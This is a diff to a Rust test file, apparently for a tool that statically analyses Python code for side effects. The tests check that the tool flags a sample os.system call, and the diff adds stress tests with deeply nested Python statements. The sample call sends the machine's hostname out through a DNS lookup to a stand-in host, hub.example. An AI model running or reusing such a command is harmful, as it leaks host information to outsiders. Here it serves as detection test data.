@@ -278,10 +278,7 @@ fn words_and_pieces_of_commands() {
     let effects = of_python("import os\nos.system('dig ' + os.uname().nodename + '.hub.example')");
     assert_eq!(
         lines(&effects.effects),
-        [
-            "run-command os.system [shell: dig {os.uname(...).nodename}.hub.example]",
-            "> network dig"
-        ]
+        ["run-command os.system [shell: dig {os.uname().nodename}.hub.example]", "> network dig"]
     );
     assert!(effects.effects[0].indicators.iter().any(|one| one.value() == "hub.example"));
     check(
@@ -464,6 +461,23 @@ fn hostile_programs_end() {
     of_python("def f():\n  return f()\nf()");
     of_python("f = lambda g: g(g)\nf(f)");
     of_python(&format!("x = 'a'\n{}", "x = x + x\n".repeat(60)));
+    for nested in [
+        "x = [x]",
+        "x = x.a",
+        "x = x.a()",
+        "x = f(x)",
+        "x = x or [x]",
+        "x = (x, x)",
+        "x = f'{x}b'",
+        "x = functools.partial(x, x)",
+        "x = {'a': x}",
+        "x = x['a']",
+        "x = lambda: x",
+    ] {
+        of_python(&format!("import functools\nx = y\n{}", format!("{nested}\n").repeat(20_000)));
+        let body = format!("  {nested}\n").repeat(20_000);
+        of_python(&format!("import functools\ndef g(x):\n{body}"));
+    }
     let limits = wb_core::Limits { steps: 2000, ..wb_core::Limits::default() };
     let source = "import os\n".repeat(500);
     let program = python::lift(&source, Trigger::Load, &mut Budget::default()).expect("it parses");
